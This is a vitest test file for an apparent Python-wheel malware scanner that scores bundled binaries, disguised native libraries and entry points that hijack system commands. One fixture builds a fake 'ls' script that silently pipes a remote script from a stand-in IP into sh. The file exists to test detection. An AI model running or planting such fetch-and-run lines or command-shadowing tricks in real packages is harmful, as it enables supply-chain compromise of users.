import { expect, test } from 'vitest';
import { inspect, type Packed, python, wheel } from '../../support/inspect.ts';
import { judge, pointsOf } from './judge.ts';

const ELF = Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0]);

test('malicious: a bundled binary that was put elsewhere and is started by import is caught by its name', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "import os, subprocess, tempfile\nsubprocess.Popen([os.path.join(tempfile.gettempdir(), 'helperd')])\n",
    'pkg/helperd': ELF,
  });

  expect(pointsOf(result, 'bundled-program')).toBeGreaterThanOrEqual(7);
});

test('one fact is one finding: a binary started from its own place is told by native-payload alone', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'helperd')])\n",
    'pkg/helperd': ELF,
  });

  expect(pointsOf(result, 'native-payload')).toBeGreaterThanOrEqual(7);
  expect(pointsOf(result, 'bundled-program')).toBe(0);
});

test('look-alike: a library by its proper name is small', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py': "import ctypes, os\nLIB = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libcore.so'))\n",
    'pkg/libcore.so': Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0]),
  });

  expect(pointsOf(result, 'bundled-program')).toBeLessThanOrEqual(3);
});

test('evasion: a library under a false name is caught, once', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "from pathlib import Path\nimport ctypes\nctypes.CDLL(str(Path(__file__).parent / 'table.dat'))\n",
    'pkg/table.dat': ELF,
  });

  expect(pointsOf(result, 'native-payload')).toBeGreaterThanOrEqual(8);
  expect(pointsOf(result, 'bundled-program')).toBe(0);
});

test('a library of a wheel for every machine that is loaded and never asked for anything is suspicious', async () => {
  const load = ['import ctypes, os', 'here = os.path.dirname(os.path.abspath(__file__))'];
  const alone = wheel({
    'pkg/__init__.py': python(...load, 'ctypes.CDLL(os.path.join(here, "core.so"))'),
    'pkg/core.so': ELF,
  });
  const used = wheel({
    'pkg/__init__.py': python(...load, 'lib = ctypes.CDLL(os.path.join(here, "core.so"))', 'lib.add(1, 2)'),
    'pkg/core.so': ELF,
  });
  const ahead = wheel({
    'pkg/__init__.py': python(...load, 'ctypes.CDLL(os.path.join(here, "core.so"), mode=ctypes.RTLD_GLOBAL)'),
    'pkg/core.so': ELF,
  });

  expect(await inspect('bundled-program', alone)).toMatchObject([{ score: 5, class: 'suspicious' }]);
  expect(await inspect('bundled-program', used)).toMatchObject([{ score: 2 }]);
  expect(await inspect('bundled-program', ahead)).toMatchObject([{ score: 2 }]);
});

test('a command of the system that an entry point takes over is suspicious, an installer of that name is itself', async () => {
  const points = (key: string, name: string): Packed =>
    wheel({ 'pkg/__init__.py': 'def main(): pass\n' }, { name, entryPoints: `[console_scripts]\n${key} = pkg:main\n` });

  expect(await inspect('bundled-program', points('sudo', 'example'))).toMatchObject([
    { class: 'suspicious', score: 7, context: 'entry-point' },
  ]);
  expect(await inspect('bundled-program', points('pip3.12', 'pip'))).toEqual([]);
  expect(await inspect('bundled-program', points('example', 'example'))).toEqual([]);
});

test('a script that stands before a command of the system, fetches and runs, is malware; one that does not is held', async () => {
  const script = (line: string): ReturnType<typeof wheel> =>
    wheel({ 'pkg/__init__.py': '', 'example-1.0.0.data/scripts/ls': `#!/bin/sh\n${line}\nexec /bin/ls "$@"\n` });

  expect(
    await inspect('bundled-program', script('(curl -fsSL http://203.0.113.7/i.sh | sh) >/dev/null 2>&1 &')),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'entry-point', path: 'example-1.0.0.data/scripts/ls' }]);
  expect(await inspect('bundled-program', script('echo listing'))).toMatchObject([{ class: 'suspicious', score: 7 }]);
});

test("the commands of a project that is vendored inside a package are nobody's commands", async () => {
  const at = (folder: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': '',
      [`${folder}pip-20.0.dist-info/entry_points.txt`]: '[console_scripts]\npip = pkg:main\n',
    });

  expect(await inspect('bundled-program', at('pkg/_vendored/'))).toEqual([]);
  expect(await inspect('bundled-program', at(''))).toMatchObject([{ class: 'suspicious', score: 7 }]);
});
